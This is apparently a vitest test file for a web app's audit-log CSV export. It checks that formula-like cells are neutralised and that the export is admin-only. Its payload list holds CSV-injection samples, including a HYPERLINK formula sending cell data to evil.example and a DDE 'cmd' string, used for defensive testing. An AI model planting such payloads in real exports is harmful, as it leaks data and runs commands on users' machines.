import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createHarness, type Harness } from "../test-support/harness";

/** Splits one CSV record (RFC 4180 quoting) into its cells. */
function cells(line: string): string[] {
  const out: string[] = [];
  let cur = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cur += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      out.push(cur);
      cur = "";
    } else cur += ch;
  }
  out.push(cur);
  return out;
}

describe("audit export: CSV injection", () => {
  let h: Harness;
  let admin: string;
  beforeAll(async () => {
    h = await createHarness();
    admin = await h.login();
  });
  afterAll(async () => h.cleanup());

  it("neutralises cells a spreadsheet would run as formulas", async () => {
    // Values that reached the trail from outside (a Postmark error text, a target, a note).
    const payloads = [
      '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1,2)",
      "\tsecret",
      "\r=1",
    ];
    for (const p of payloads) {
      await h.store.audit.record(
        { actor: "system", action: "test.csv", target: p, outcomeDetail: p, detail: p },
        new Date(h.clock()).toISOString(),
      );
    }
    const res = await h.request("/api/audit/export?format=csv&action=test.csv", { cookie: admin });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/text\/csv/);
    const text = await res.text();
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const records = text.split("\r\n").filter(Boolean).slice(1);
    // \r inside a cell is quoted, so split on the record terminator only after unquoting.
    const rows = records.length === payloads.length ? records.map(cells) : [];
    expect(rows).toHaveLength(payloads.length);
    rows.forEach((row, i) => {
      const target = row[5]!;
      const outcomeDetail = row[7]!;
      expect(target).toBe(`'${payloads[i]}`);
      expect(outcomeDetail).toBe(`'${payloads[i]}`);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  });

  it("is admin-only", async () => {
    const viewer = await h.addUser("vic", "viewer");
    expect((await h.request("/api/audit/export?format=csv", { cookie: viewer })).status).toBe(403);
  });
});
